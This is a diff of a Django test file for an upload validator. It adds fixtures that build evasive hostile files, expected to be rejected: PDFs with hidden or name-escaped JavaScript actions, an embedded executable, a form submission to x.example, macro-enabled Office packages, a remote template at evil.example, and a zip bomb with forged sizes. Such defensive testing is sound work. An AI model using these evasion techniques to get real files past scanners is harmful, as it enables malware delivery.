@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import io
 import re
+import struct
 import zipfile
+import zlib
 
 import pytest
 from django.core.exceptions import ValidationError
@@ -26,10 +28,66 @@ from tests.records.test_record_pages import volunteer_form
 pytestmark = pytest.mark.django_db
 URL = reverse("records:create", args=["volunteer"])
 
-PDF = (
-    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
-    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+
+def pdf(*objects: bytes) -> bytes:
+    """A PDF of `objects` (numbered from 1, the first the catalog) with its xref table."""
+    out, offsets = io.BytesIO(), []
+    out.write(b"%PDF-1.7\n")
+    for number, body in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
+    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
+    return out.getvalue()
+
+
+PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
+PDF = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES)
+CATALOG_OPENING_3 = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
+REMOTE_TEMPLATE = (
+    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
+    b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+    b"</Relationships>"
 )
+
+
+def pdf_with_hidden_action() -> bytes:
+    """A JavaScript action inside a compressed object stream, found by a cross-reference
+    stream: no byte of the file spells it out."""
+    action = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
+    packed = zlib.compress(action)
+    out, offsets = io.BytesIO(), {}
+    out.write(b"%PDF-1.7\n")
+    for number, body in (
+        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"),
+        (2, PAGES),
+        (
+            3,
+            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
+            + packed
+            + b"\nendstream",
+        ),
+    ):
+        offsets[number] = out.tell()
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
+    xref = out.tell()
+    rows = [
+        (0, 0, 65535),
+        (1, offsets[1], 0),
+        (1, offsets[2], 0),
+        (1, offsets[3], 0),
+        (2, 3, 0),
+        (1, xref, 0),
+    ]
+    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
+    out.write(
+        b"5 0 obj\n<< /Type /XRef /Size 6 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode /Length %d >>\n"
+        % len(table)
+    )
+    out.write(b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
+    return out.getvalue()
 
 
 def docx_bytes() -> bytes:
@@ -48,13 +106,30 @@ def xlsx_bytes() -> bytes:
     return buffer.getvalue()
 
 
-def with_part(data: bytes, name: str, content: bytes = b"x") -> bytes:
+def with_part(data: bytes, name: str, content: bytes = b"x", *, replace: dict | None = None) -> bytes:
+    """The package `data` with one part added, and parts' texts changed (old → new)."""
     source, buffer = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as target:
         for part in source.infolist():
-            target.writestr(part, source.read(part))
+            body = source.read(part)
+            for old, new in (replace or {}).items():
+                body = body.replace(old, new)
+            target.writestr(part, body)
         target.writestr(name, content)
     return buffer.getvalue()
+
+
+def lying_package() -> bytes:
+    """A .docx whose directory says a part unpacks to 1,000 bytes; it unpacks to 5 MB."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as package:
+        package.writestr("[Content_Types].xml", "<Types/>")
+        package.writestr("word/document.xml", b"\0" * (5 * 1024 * 1024))
+    data = bytearray(buffer.getvalue())
+    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):  # central, then local
+        start = data.rindex(signature)
+        data[start + offset : start + offset + 4] = struct.pack("<I", 1000)
+    return bytes(data)
 
 
 def upload(name: str, data: bytes) -> SimpleUploadedFile:
@@ -69,6 +144,18 @@ def upload(name: str, data: bytes) -> SimpleUploadedFile:
         ("签到.xlsx", xlsx_bytes(), "xlsx"),
         ("签到表照片.jpg", jpeg_upload().read(), "jpg"),
         ("名字不对.txt", PDF, "pdf"),  # the content decides, not the name
+        # a scan: its image data happens to hold the bytes of active names, which are no names
+        (
+            "扫描件.pdf",
+            pdf(
+                b"<< /Type /Catalog /Pages 2 0 R >>",
+                PAGES,
+                b"<< /Filter /DCTDecode /Length 4000 >>\nstream\n"
+                + b"\xff/JS /Launch (x)" * 250
+                + b"\nendstream",
+            ),
+            "pdf",
+        ),
     ],
     ids=lambda value: value if isinstance(value, str) and "." in value else "",
 )
@@ -83,14 +170,44 @@ def test_the_content_decides_what_a_file_is(name, data, extension):
     [
         (
             "script.pdf",
-            PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (x) >>"),
+            pdf(CATALOG_OPENING_3, PAGES, b"<< /S /JavaScript /JS (app.alert(1)) >>"),
             "含有脚本",
         ),
-        ("cut.pdf", PDF[:60], "不是完整的 PDF"),
+        ("cut.pdf", PDF[:80], "不是完整的 PDF"),
         ("macro.docm", with_part(docx_bytes(), "word/vbaProject.bin"), "含有宏"),
         ("plain.zip", with_part(xlsx_bytes(), "x")[:30], "已损坏"),
         ("notes.txt", "会议记录".encode(), "不是可接受的附件"),
         ("app.exe", b"MZ\x90\x00" + b"\x00" * 100, "不是可接受的附件"),
+        (
+            "escaped.pdf",
+            pdf(CATALOG_OPENING_3, PAGES, b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+            "含有脚本",
+        ),
+        ("hidden.pdf", pdf_with_hidden_action(), "含有脚本"),
+        (
+            "carrier.pdf",
+            pdf(
+                b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
+                PAGES,
+                b"<< /Names [(a.exe) 4 0 R] >>",
+                b"<< /Type /Filespec /F (a.exe) >>",
+            ),
+            "嵌入文件",
+        ),
+        ("submit.pdf", pdf(CATALOG_OPENING_3, PAGES, b"<< /S /SubmitForm /F (http://x.example) >>"), "动作"),
+        (
+            "renamed.docx",
+            with_part(
+                docx_bytes(),
+                "word/vbaStuff.dat",
+                replace={b"wordprocessingml.document.main+xml": b"ms-word.document.macroEnabled.main+xml"},
+            ),
+            "含有宏",
+        ),
+        ("xlm.xlsx", with_part(xlsx_bytes(), "xl/macrosheets/sheet2.xml", b"<xm:macrosheet/>"), "含有宏"),
+        ("template.docx", with_part(docx_bytes(), "word/_rels/settings.xml.rels", REMOTE_TEMPLATE), "含有宏"),
+        ("lying.docx", lying_package(), "已损坏"),
+        ("空.pdf", b"", "是空文件"),
     ],
     ids=lambda value: value if isinstance(value, str) and "." in value else "",
 )
@@ -184,3 +301,49 @@ def test_an_attachment_removed_in_the_form_or_with_its_draft_leaves_no_file(
     with django_capture_on_commit_callbacks(execute=True):
         client.post(reverse("records:delete", args=[record.pk]))
     assert not Attachment.objects.exists() and not default_storage.exists(second.file.name)
+
+
+def test_an_approved_sessions_missing_sheet_and_photos_are_added_without_reopening_it(client_as, town):
+    from datetime import date
+
+    from inspection.gaps import completeness
+
+    session = make_record(
+        "study",
+        unit="青溪镇",
+        on=date(2025, 3, 10),
+        study_type="central_group",
+        participants=10,
+        expected_attendance=10,
+        host="书记",
+        discussion_points="张三：谈体会\n李四：谈做法",
+    )
+    assert "签到表" in " ".join(gap.message for entry in completeness(town, 2025).units for gap in entry.gaps)
+    url = reverse("records:attachments_add", args=[session.pk])
+    response = client_as(Role.REVIEWER).post(
+        url,
+        {"more-sign_in_sheets": [upload("签到表.pdf", PDF)], "more-photos": [jpeg_upload("现场.jpg")]},
+        follow=True,
+    )
+    assert "已补充 2 个文件" in response.content.decode()
+    session.refresh_from_db()
+    assert (session.status, session.photos.count(), session.attachments.get().sort) == (
+        "approved",
+        1,
+        "sign_in",
+    )
+    messages = [gap.message for entry in completeness(town, 2025).units for gap in entry.gaps]
+    assert not any("03-10" in message for message in messages)
+    history = client_as(Role.REVIEWER).get(reverse("records:detail", args=[session.pk])).content.decode()
+    assert "附件：— → 签到表.pdf" in history
+
+
+def test_files_cannot_be_added_to_a_void_record_or_another_units(client_as):
+    void = make_record("event", status="void")
+    elsewhere = make_record("event", unit="柳塘村")
+    data = {"more-sign_in_sheets": [upload("签到表.pdf", PDF)]}
+    client = client_as(Role.REPORTER)
+    response = client.post(reverse("records:attachments_add", args=[void.pk]), data, follow=True)
+    assert "作废的记录不能再补充附件" in response.content.decode()
+    assert client.post(reverse("records:attachments_add", args=[elsewhere.pk]), data).status_code == 404
+    assert not Attachment.objects.exists()
